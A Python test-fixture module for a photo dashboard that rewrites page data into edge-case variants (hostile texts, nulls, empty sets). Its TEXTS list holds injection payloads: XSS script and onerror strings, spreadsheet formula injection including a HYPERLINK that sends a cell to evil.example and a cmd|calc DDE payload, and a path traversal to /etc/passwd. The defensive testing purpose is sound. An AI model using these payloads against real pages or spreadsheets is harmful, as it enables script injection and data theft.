"""Pages with data at its worst: in every place for a text something hostile, in every place for nothing nothing."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable, Iterator, Mapping
from itertools import cycle
from pathlib import Path
from typing import Any

from photolake_cli.dashboard.pages import PAGE_ROWS, format_script

Content = dict[str, Any]
Pages = dict[str, Content]
"""The content of each kind, all pages of it in one: `index`, `posts`, ..."""

TEXTS = (
    "<script>window.hacked = 1</script>",
    "</script><script>window.hacked = 2</script>",
    '<img src=x onerror="window.hacked = 3">',
    "<svg/onload=window.hacked=4>",
    "javascript:window.hacked=5",
    "'\"><b>bold</b>&amp;&#60;i&#62;${window.hacked=6}{{7}}`",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "a,b;c\td\ne\r\nf",
    "\u202egnp.exe\u202c\u2066x",
    "\u061c\u200f\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645 abc 123",
    "\u200b\u200d\ufeff\u00ad",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3f3\ufe0f\u200d\U0001f308\u0e49\u0e49\u0e49\u0e49\u0e49" * 3,
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a" * 20,
    "W" * 10_000,
    "\u6f22" * 3_000,
    " ",
    "null",
    "undefined",
    "NaN",
    "unknown",
    "#/wall?label=x&label=%ff",
    "%00%ff../../../etc/passwd",
    "url(https://evil.example/x.png)",
    "https://evil.example/" + "a/" * 500,
)
# Columns that may be null, by kind; in `format.ts` they are `| null`. A null in `missing` says that there is a file.
_NULLABLE: Mapping[str, tuple[str, ...]] = {
    "posts": (
        "at", "platform", "language", "sentiment", "positive", "negative", "isRepost", "query", "author",
        "impressions", "likes", "reposts",
    ),
    "texts": ("text", "url", "author"),
    "photos": ("picture", "kind"),
    "pictures": ("alt",),
    "analyses": ("analyzedAt", "imageLabels", "imageProperties"),
}  # fmt: skip
_SCRIPT = re.compile(r'photolakeData\("(\w+)",(\d+),(.*)\);\n?', re.DOTALL)


def read_pages(folder: Path) -> Pages:
    """The data of a page, its pages put together."""
    found: dict[tuple[str, int], Content] = {}
    for path in (folder / "data").glob("*.js"):
        matched = _SCRIPT.fullmatch(path.read_text("utf-8"))
        assert matched, path
        found[matched[1], int(matched[2])] = json.loads(matched[3])
    pages: Pages = {}
    for kind, number in sorted(found):
        content = found[kind, number]
        if kind in pages:
            for name, values in content.items():
                pages[kind][name] += values
        else:
            pages[kind] = content
    return pages


def write_pages(source: Path, folder: Path, pages: Pages) -> Path:
    """Copy a page, with other data."""
    shutil.copytree(source, folder, ignore=shutil.ignore_patterns("data"))
    (folder / "data").mkdir()
    index = pages["index"]
    index["rows"] = {kind: len(next(iter(pages[kind].values()))) for kind in PAGE_ROWS}
    (folder / "data/index.js").write_text(format_script("index", 0, index), "utf-8")
    for kind in PAGE_ROWS:
        size = index["pageRows"][kind]
        for number, start in enumerate(range(0, index["rows"][kind], size)):
            content = {name: values[start : start + size] for name, values in pages[kind].items()}
            (folder / f"data/{kind}-{number}.js").write_text(format_script(kind, number, content), "utf-8")
    return folder


def fill_with_hostile_texts(pages: Pages) -> Pages:
    """Put a hostile text in the place of every text but the days and the names of saved queries and APIs."""
    texts = cycle(TEXTS)
    index = pages["index"]
    kept = {name: index[name] for name in ("since", "until", "imageApis")}
    answers = {
        name: {"columns": answer["columns"], "rows": _replace(answer["rows"], texts)}
        for name, answer in index["answers"].items()
    }
    queries = {name: _replace(query, texts) for name, query in index["queries"].items()}
    replaced = {kind: _replace(content, texts) for kind, content in pages.items()}
    # Only a picture that has no file may have an id that is not a digest.
    for row, digest in enumerate(pages["pictures"]["id"]):
        if row % 2:
            replaced["pictures"]["missing"][row] = next(texts)
        else:
            replaced["pictures"]["id"][row] = digest
            replaced["pictures"]["missing"][row] = pages["pictures"]["missing"][row]
    return {
        **replaced,
        "index": {**_replace(index, texts), **kept, "queries": queries, "answers": answers},
    }


def fill_with_nulls(pages: Pages) -> Pages:
    """Leave out everything that may be missing: values, lists, names, queries, notes."""
    emptied = {
        kind: {
            name: [None if name in _NULLABLE[kind] else _empty(value) for value in values]
            for name, values in content.items()
        }
        for kind, content in pages.items()
        if kind != "index"
    }
    # A picture without a file is asked for by no page.
    emptied["pictures"]["missing"] = pages["pictures"]["missing"]
    index = {**pages["index"], "queries": {}, "answers": {}, "notes": [], "imageApis": []}
    return {**emptied, "index": index}


def keep_rows(pages: Pages, **counts: int) -> Pages:
    """Keep the first rows of each kind; photos of posts that are gone are gone too, those of pictures lose them."""
    posts, pictures = counts.get("posts", 10**9), counts.get("pictures", 10**9)
    photos = pages["photos"]
    left = [row for row, post in enumerate(photos["post"]) if post < posts][: counts.get("photos", 10**9)]
    kept = {name: [values[row] for row in left] for name, values in photos.items()}
    kept["picture"] = [None if row is not None and row >= pictures else row for row in kept["picture"]]
    limits = {"posts": posts, "texts": posts, "pictures": pictures, "analyses": pictures}
    cut = {kind: {name: values[:limit] for name, values in pages[kind].items()} for kind, limit in limits.items()}
    return {**cut, "photos": kept, "index": dict(pages["index"])}


def _replace(value: Any, texts: Iterator[str]) -> Any:
    if isinstance(value, str):
        return next(texts)
    if isinstance(value, list):
        return [_replace(each, texts) for each in value]
    if isinstance(value, dict):
        return {name: _replace(each, texts) for name, each in value.items()}
    return value


def _empty(value: Any) -> Any:
    return [] if isinstance(value, list) else value


VARIANTS: Mapping[str, Callable[[Pages], Pages]] = {
    "hostile texts": fill_with_hostile_texts,
    "nulls everywhere": fill_with_nulls,
    "no posts": lambda pages: keep_rows(pages, posts=0),
    "nothing": lambda pages: fill_with_nulls(keep_rows(pages, posts=0, pictures=0)),
    "no photos": lambda pages: keep_rows(pages, photos=0),
    "no pictures": lambda pages: keep_rows(pages, pictures=0),
    "one post": lambda pages: keep_rows(pages, posts=1, pictures=1),
}
